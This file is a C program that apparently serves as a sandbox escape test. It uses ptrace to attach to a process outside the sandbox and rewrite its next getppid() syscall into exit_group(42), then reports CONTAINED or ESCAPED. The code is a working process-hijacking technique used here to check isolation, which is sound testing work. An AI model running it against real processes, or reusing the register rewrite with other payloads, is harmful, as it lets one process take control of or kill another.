/*
 * Escape attempt: PTRACE_ATTACH to a process outside the sandbox (pid in
 * argv[1]) and hijack it: its next getppid() becomes exit_group(42).
 */
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static int hijack(pid_t pid)
{
	struct user_regs_struct regs;
	int status, i, sig = 0;

	/* Wait for the attach SIGSTOP, passing other signals on. */
	for (;;) {
		if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
			return -1;
		if (WSTOPSIG(status) == SIGSTOP)
			break;
		if (ptrace(PTRACE_CONT, pid, NULL, (void *)(long)WSTOPSIG(status)) < 0)
			return -1;
	}
	ptrace(PTRACE_SETOPTIONS, pid, NULL, (void *)PTRACE_O_TRACESYSGOOD);
	for (i = 0; i < 1000; i++) {
		if (ptrace(PTRACE_SYSCALL, pid, NULL, (void *)(long)sig) < 0 ||
		    waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
			return -1;
		sig = 0;
		if (WSTOPSIG(status) != (SIGTRAP | 0x80)) {
			sig = WSTOPSIG(status);
			continue;
		}
		if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0)
			return -1;
		if (regs.rax != (unsigned long long)-ENOSYS ||
		    regs.orig_rax != SYS_getppid)
			continue;
		regs.orig_rax = SYS_exit_group;
		regs.rdi = 42;
		if (ptrace(PTRACE_SETREGS, pid, NULL, &regs) < 0)
			return -1;
		return ptrace(PTRACE_DETACH, pid, NULL, NULL) < 0 ? -1 : 0;
	}
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	return -1;
}

int main(int argc, char **argv)
{
	pid_t pid;

	if (argc != 2) {
		fprintf(stderr, "usage: %s VICTIM-PID\n", argv[0]);
		return 2;
	}
	pid = atoi(argv[1]);
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0) {
		printf("CONTAINED PTRACE_ATTACH to pid %d failed: %s\n", pid,
		       strerrorname_np(errno));
		return 0;
	}
	if (hijack(pid) < 0) {
		printf("ESCAPED attached to pid %d (but the syscall rewrite failed)\n",
		       pid);
		return 0;
	}
	printf("ESCAPED attached to pid %d and rewrote its getppid() into exit_group(42)\n",
	       pid);
	return 0;
}
